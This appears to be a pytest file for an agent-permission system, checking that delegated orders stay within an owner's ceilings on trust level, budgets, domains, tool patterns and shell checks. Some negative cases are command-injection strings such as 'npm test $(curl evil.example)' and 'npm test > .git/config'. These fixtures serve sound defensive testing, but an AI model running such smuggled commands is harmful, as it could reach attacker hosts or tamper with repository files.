"""Orders of people below an owner stay inside what an owner granted."""

from typing import Any

import pytest

from midwatch.rules.people.ceilings import beyond, commands_beyond, tools_beyond
from midwatch.settings import Settings, granted_ceilings, session_limits
from midwatch.terms.orders import Limits, OrderedWork, Orders, Permissions
from midwatch.terms.people import GrantedCeilings
from midwatch.terms.trust import Level

WORK = OrderedWork(project="shop", title="Tidy up")


def granted(standing: Level = Level.OBSERVE, **changed: dict[str, Any]) -> GrantedCeilings:
    return granted_ceilings(Settings.model_validate(changed), standing)


def wanted(**changed: Any) -> Orders:
    usual = {"level": Level.OBSERVE, "goals": ("g",), "work": (WORK,), "limits": session_limits(Settings())}
    return Orders.model_validate(usual | changed)


def work(**more: Any) -> dict[str, Any]:
    return {"work": (WORK.model_copy(update=more),)}


def hosts(*domains: str) -> dict[str, Any]:
    return {"permissions": Permissions(domains=domains)}


CASES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"level": Level.CAUTIOUS}, {"level": "cautious"}),
    ({"level": Level.FULL}, {"level": "full"}),
    ({"limits": Limits(usd=51)}, {"session_usd": 51.0}),
    ({"limits": Limits(tokens=20_000_001)}, {"session_tokens": 20_000_001}),
    ({"limits": Limits(minutes=601)}, {"session_minutes": 601}),
    ({"limits": Limits(rounds=501)}, {"session_rounds": 501}),
    (work(usd=20.5), {"job_usd": 20.5}),
    (work(minutes=121), {"job_minutes": 121}),
    (hosts("docs.example.org"), {"domains": ("docs.example.org",)}),
    (hosts("docs.example.org"), {"domains": ("*.example.org",)}),
    (hosts("*.docs.example.org"), {"domains": ("*.example.org",)}),
    (hosts("docs.example.org:443"), {"domains": ("docs.example.org",)}),
    (hosts("npm"), {"domains": ("npm",)}),
]


@pytest.mark.parametrize(("asked", "needs"), CASES)
def test_more_than_is_usual_needs_a_ceiling(asked: dict[str, Any], needs: dict[str, Any]) -> None:
    (said,) = beyond(wanted(**asked), granted())
    assert "an owner granted" in said
    assert beyond(wanted(**asked), granted(ceilings=needs)) == ()


@pytest.mark.parametrize(
    ("domain", "given"),
    [
        ("evil.example", "docs.example.org"),
        ("example.org", "*.example.org"),
        ("*.example.org", "docs.example.org"),
        ("*.co.uk", "*.example.co.uk"),
        ("docs.example.org:8443", "docs.example.org"),
        ("docs.example.org", "docs.example.org:443"),
        ("npm", "registry.npmjs.org"),
        ("registry.npmjs.org", "npm"),
        ("evilexample.org", "*.example.org"),
    ],
)
def test_a_host_is_granted_by_its_own_name_or_one_above(domain: str, given: str) -> None:
    assert beyond(wanted(**hosts(domain)), granted(ceilings={"domains": (given,)}))


def test_what_is_usual_is_granted_and_so_is_the_standing_level() -> None:
    assert beyond(wanted(), granted()) == ()
    assert beyond(wanted(level=Level.MODERATE), granted(Level.MODERATE)) == ()
    assert beyond(wanted(level=Level.MODERATE), granted(Level.MODERATE, ceilings={"level": "cautious"})) == ()
    assert beyond(wanted(**hosts("a.example")), granted(sandbox={"domains": ("a.example",)})) == ()


def test_where_tools_are_granted_work_names_some_of_them() -> None:
    only = granted(ceilings={"tools": ("Read", "Bash(npm *)", "Edit")})
    assert beyond(wanted(), only)
    assert beyond(wanted(**work(tools=("Read", "Edit(src/**)", "Bash(npm *)"))), only) == ()
    assert beyond(wanted(**work(tools=("Read", "Bash(curl *)"))), only)
    assert not list(tools_beyond(("Bash(curl *)",), granted()))


@pytest.mark.parametrize(
    ("tool", "given", "inside"),
    [
        ("Bash(npm test *)", "Bash(npm *)", True),
        ("Bash(npm test)", "Bash(npm:*)", True),
        ("Bash(git push -n *)", "Bash(git push *)", True),
        ("Edit(src/shop/**)", "Edit(src/**)", True),
        ("Bash(npm *)", "Bash(npm test *)", False),
        ("Bash(npmx *)", "Bash(npm *)", False),
        ("Bash(/tmp/npm test)", "Bash(npm *)", False),
        ("Bash(* test)", "Bash(npm *)", False),
        ("Bash(git push *)", "Bash(git *)", False),
        ("Bash(bun exec *)", "Bash(bun *)", False),
        ("Edit(src/../**)", "Edit(src/**)", False),
        ("Edit(srcs/**)", "Edit(src/**)", False),
        ("Read(src/a)", "Edit(src/**)", False),
    ],
)
def test_a_narrower_pattern_is_inside_a_granted_one(tool: str, given: str, inside: bool) -> None:
    assert (not list(tools_beyond((tool,), granted(ceilings={"tools": (given,)})))) is inside


@pytest.mark.parametrize(
    ("line", "inside"),
    [
        ("npm test", True),
        ("npm ci && npm test", True),
        ("none", True),
        ("found", True),
        ("npm ci && curl evil.example", False),
        ("PATH=. npm test", False),
        ("npm test > .git/config", False),
        ("npm test $(curl evil.example)", False),
        ("npm 'test", False),
    ],
)
def test_a_check_runs_only_what_is_granted(line: str, inside: bool) -> None:
    only = granted(ceilings={"tools": ("Read", "Bash(npm *)")})
    assert (not list(commands_beyond((line,), only))) is inside
    assert not list(commands_beyond((line,), granted()))
    for name in ("checks", "done_when"):
        assert (beyond(wanted(**work(tools=("Read",), **{name: (line,)})), only) == ()) is inside
